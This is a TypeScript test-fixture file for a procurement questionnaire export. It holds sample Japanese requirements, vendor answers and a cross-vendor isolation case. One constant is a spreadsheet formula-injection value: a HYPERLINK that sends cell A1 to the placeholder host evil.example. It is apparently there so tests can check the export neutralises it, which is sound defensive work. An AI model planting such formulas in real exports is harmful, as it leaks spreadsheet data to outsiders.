// Shared fixtures for the questionnaire pack tests (not a test file itself).
import type { Requirement, Response } from '$lib/domain/model';
import type { PackInput } from '$lib/io/pack-export';

export const VENDOR_ID = 'v-alpha';
export const OTHER_VENDOR_NAME = '競合クラウド株式会社';
/** Distinctive points: neither may appear anywhere in a pack. */
export const POINTS = [37, 13] as const;
export const HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';

export function requirement(overrides: Partial<Requirement>): Requirement {
  return {
    id: 'r',
    procurementId: 'p1',
    order: 0,
    ref: 'R-001',
    domain: '9 アクセス制御',
    title: '利用者認証',
    text: '多要素認証を提供すること。',
    kind: 'mandatory',
    basePoints: POINTS[0],
    points: 0,
    appliesTo: 'csp',
    acceptedAttestations: ['ismap'],
    controlRefs: ['iso27002:9.4.2'],
    sourceRef: null,
    ...overrides
  };
}

/** Three requirements, given out of specification order. */
export const REQUIREMENTS: Requirement[] = [
  requirement({
    id: 'req-log',
    order: 2,
    ref: 'R-003',
    domain: '12 運用',
    title: 'ログの保管',
    text: 'ログを1年以上保管し、利用者が取得できること。\n保管期間は1〜3年から選べること。',
    kind: 'scored',
    basePoints: 0,
    points: POINTS[1]
  }),
  requirement({ id: 'req-mfa', order: 0 }),
  requirement({
    id: 'req-enc',
    order: 1,
    ref: 'R-002',
    domain: '10 暗号',
    title: HOSTILE_TITLE,
    text: '保存データを暗号化すること。',
    kind: 'scored',
    basePoints: 0,
    points: POINTS[1]
  })
];

export function response(overrides: Partial<Response>): Response {
  return {
    id: 'resp',
    procurementId: 'p1',
    vendorId: VENDOR_ID,
    requirementId: 'req-mfa',
    answer: 'full',
    explanation: '',
    evidenceRefs: '',
    updatedAt: '2025-05-01T00:00:00.000Z',
    source: 'manual',
    ...overrides
  };
}

export const CRITERIA_HASH = 'c0ffee'.padEnd(64, '9');

export function packInput(overrides: Partial<PackInput> = {}): PackInput {
  return {
    procurementTitle: '文書管理SaaSの調達（令和9年度）',
    organisation: '架空省 情報システム課',
    vendor: { id: VENDOR_ID, company: 'アルファ株式会社', serviceName: 'Alpha Docs' },
    criteria: { version: 2, hash: CRITERIA_HASH },
    requirements: REQUIREMENTS,
    answers: [
      response({ requirementId: 'req-mfa', answer: 'partial', explanation: 'SMS と TOTP に対応。' }),
      // Another vendor's answer must never reach this vendor's pack.
      response({
        id: 'resp-other',
        vendorId: 'v-beta',
        requirementId: 'req-enc',
        explanation: `${OTHER_VENDOR_NAME}の回答`
      })
    ],
    locale: 'ja',
    exportedAt: '2025-05-10T03:00:00.000Z',
    ...overrides
  };
}
